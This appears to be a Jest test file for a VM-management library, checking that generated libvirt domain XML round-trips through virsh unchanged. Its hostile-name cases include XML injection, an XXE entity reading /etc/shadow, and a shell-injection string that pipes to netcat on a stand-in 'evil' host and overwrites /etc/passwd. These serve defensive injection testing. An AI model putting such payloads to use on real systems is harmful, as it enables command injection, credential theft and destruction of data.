import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import { promisify } from 'node:util';
import { buildDomainXml, type DomainSpec, QEMU_NAMESPACE } from '#vim/libvirt';
import { find, type ParsedElement, parseStrictXml, sampleDomainSpec, structure, textOf } from '#vim/libvirt/testing';
import { assertDomainName, assertHostPath, checkFreeText } from '#vim/naming';
import { hostileString } from '#vim/naming/testing';

/**
 * Generated domains go through libvirt's own parser (the built-in test:/// driver, no VMs) and
 * come back from dumpxml: hostile VNF instance names must come back as the same text, and the
 * domain must have exactly the devices we asked for.
 */
const run = promisify(execFile);
let dir: string;
let count = 0;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'vim-domain-xml-'));
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/**
 * test:/// starts from a fresh state in every virsh process, so define and dumpxml run in one.
 * The single argv element is virsh's own command language, not a shell: only a checked path
 * (mkdtemp names are [A-Za-z0-9]) and a checked domain name go into it.
 */
async function defineAndDump(spec: DomainSpec): Promise<ParsedElement> {
  const file = assertHostPath(join(dir, `domain-${count++}.xml`));
  await writeFile(file, buildDomainXml(spec));
  const { stdout } = await run('virsh', ['-c', 'test:///default', `define ${file}; dumpxml ${assertDomainName(spec.name)}`]);
  const xml = stdout.slice(stdout.indexOf('<domain'), stdout.lastIndexOf('</domain>') + '</domain>'.length);
  return parseStrictXml(xml);
}

const withName = (name: string) => sampleDomainSpec({ metadata: { ...sampleDomainSpec().metadata, vnfInstanceName: name, vduId: name } });

describe('domain XML through libvirt (test:///default)', () => {
  let benign: ParsedElement;

  beforeAll(async () => {
    benign = await defineAndDump(sampleDomainSpec());
  });

  test('libvirt keeps what we generated', () => {
    const spec = sampleDomainSpec();
    expect(textOf(find(benign, 'name')[0])).toBe(spec.name);
    expect(textOf(find(benign, 'uuid')[0])).toBe(spec.uuid);
    expect(textOf(find(benign, 'title')[0])).toBe(spec.metadata.vnfInstanceName);
    expect(find(benign, 'metadata', 'vim:instance', 'vim:vdu')[0].attributes).toEqual({ id: 'fw-vdu', instance: spec.uuid });
    expect(find(benign, 'cputune', 'vcpupin').map((e) => e.attributes.cpuset)).toEqual(['4', '5']);
    expect(find(benign, 'memoryBacking', 'hugepages', 'page')[0].attributes).toMatchObject({ size: '2048', nodeset: '0' });
    expect(find(benign, 'devices', 'interface').map((e) => e.attributes.type)).toEqual(['vhostuser', 'hostdev']);
    expect(find(benign, 'devices', 'interface', 'vlan', 'tag')[0].attributes.id).toBe('100');
  });

  test.each([
    "</description><devices><hostdev mode='subsystem' type='pci'><source><address bus='0x00'/></source></hostdev>",
    '</title></domain><domain type="kvm"><name>evil</name>',
    ']]><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>&xxe; &amp; &#0;',
    "'; virsh destroy --all; $(reboot) `id` | nc evil 1 && echo >/etc/passwd",
    '日本語 🔥 ﷽ e\u0301',
  ])('a hostile name comes back verbatim as text: %s', async (name) => {
    const root = await defineAndDump(withName(name));
    expect(textOf(find(root, 'title')[0])).toBe(name);
    expect(textOf(find(root, 'metadata', 'vim:instance', 'vim:vnf-instance')[0])).toBe(name);
    expect(find(root, 'metadata', 'vim:instance', 'vim:vdu')[0].attributes.id).toBe(name);
    expect(structure(root)).toEqual(structure(benign));
    expect(find(root, 'devices', 'hostdev')).toHaveLength(0);
    expect(find(root, 'name').map(textOf)).toEqual([sampleDomainSpec().name]);
  });

  test('generated hostile names that pass the free-text rule round-trip through libvirt', async () => {
    const names = fc.sample(hostileString.filter((s) => checkFreeText(s).ok), { numRuns: 25, seed: 7 });
    for (const name of names) {
      const root = await defineAndDump(withName(name));
      expect(textOf(find(root, 'title')[0])).toBe(name);
      expect(find(root, 'metadata', 'vim:instance', 'vim:vdu')[0].attributes.id).toBe(name);
      expect(structure(root)).toEqual(structure(benign));
    }
  });
});

/**
 * The TCG vhost-user workaround (`vectors=0` through `<qemu:override>`) is QEMU-driver XML: only
 * qemu:///system proves that libvirt takes it and keeps it. Domains are defined, never started,
 * and undefined at once.
 */
describe('domain XML through libvirt (qemu:///system): the TCG vhost-user workaround and the console log', () => {
  const URI = 'qemu:///system';

  /** A VM as the launch builds it on this machine: memfd shared memory, no disk, two vhost-user NICs. */
  function launchLike(overrides: Partial<DomainSpec> = {}): DomainSpec {
    const uuid = randomUUID();
    return sampleDomainSpec({
      name: `vim-${uuid}`,
      uuid,
      vcpupin: undefined,
      emulatorpin: undefined,
      numatune: undefined,
      memoryKib: 131072,
      vcpus: 1,
      guestNuma: [{ id: 0, vcpus: [0], memoryKib: 131072 }],
      memoryBacking: { kind: 'memfd' },
      disks: [],
      cloudInitIso: undefined,
      consoleLog: join(dir, `${uuid}-console.log`),
      interfaces: [0, 1].map((i) => ({ type: 'vhostuser', socketPath: join(dir, `vhu-${uuid.slice(0, 8)}-${i}.sock`), mode: 'server' }) as const),
      ...overrides,
    });
  }

  async function defineAndDumpSystem(spec: DomainSpec): Promise<{ root: ParsedElement; xml: string }> {
    const file = assertHostPath(join(dir, `${spec.uuid}.xml`));
    await writeFile(file, buildDomainXml(spec));
    try {
      await run('virsh', ['-c', URI, 'define', file]);
      const { stdout } = await run('virsh', ['-c', URI, 'dumpxml', assertDomainName(spec.name)]);
      return { root: parseStrictXml(stdout), xml: stdout };
    } finally {
      await run('virsh', ['-c', URI, 'undefine', assertDomainName(spec.name)]).catch(() => undefined);
    }
  }

  test('a TCG domain with vhost-user NICs keeps the override, the aliases, the ROMs and the console log', async () => {
    const spec = launchLike();
    const { root } = await defineAndDumpSystem(spec);
    expect(root.attributes).toMatchObject({ type: 'qemu', 'xmlns:qemu': QEMU_NAMESPACE });
    const nics = find(root, 'devices', 'interface');
    expect(nics.map((nic) => find(nic, 'alias')[0]?.attributes.name)).toEqual(['ua-net0', 'ua-net1']);
    expect(find(root, 'devices', 'interface', 'rom')).toEqual([]);
    const devices = find(root, 'qemu:override', 'qemu:device');
    expect(devices.map((d) => d.attributes.alias)).toEqual(['ua-net0', 'ua-net1']);
    for (const device of devices) {
      expect(find(device, 'qemu:frontend', 'qemu:property').map((p) => p.attributes)).toEqual([{ name: 'vectors', type: 'unsigned', value: '0' }]);
    }
    expect(find(root, 'devices', 'serial', 'log')[0].attributes).toEqual({ file: spec.consoleLog, append: 'off' });
    expect(find(root, 'os', 'bios')[0].attributes).toEqual({ useserial: 'yes' });
  });

  test('a TCG domain without vhost-user NICs has none of it', async () => {
    const { root, xml } = await defineAndDumpSystem(launchLike({ interfaces: [] }));
    expect(find(root, 'qemu:override')).toEqual([]);
    expect(xml).not.toMatch(/ua-net|xmlns:qemu/);
  });

  test('a kvm domain has none of it', async () => {
    const spec = launchLike({ type: 'kvm' });
    expect(buildDomainXml(spec)).not.toMatch(/qemu:|ua-net/);
    // libvirt refuses a kvm domain where it offers no KVM; where it does, what it keeps has none of it either.
    if (!existsSync('/dev/kvm')) return;
    const { root, xml } = await defineAndDumpSystem(spec);
    expect(root.attributes.type).toBe('kvm');
    expect(find(root, 'qemu:override')).toEqual([]);
    expect(xml).not.toMatch(/ua-net|xmlns:qemu/);
  });
});
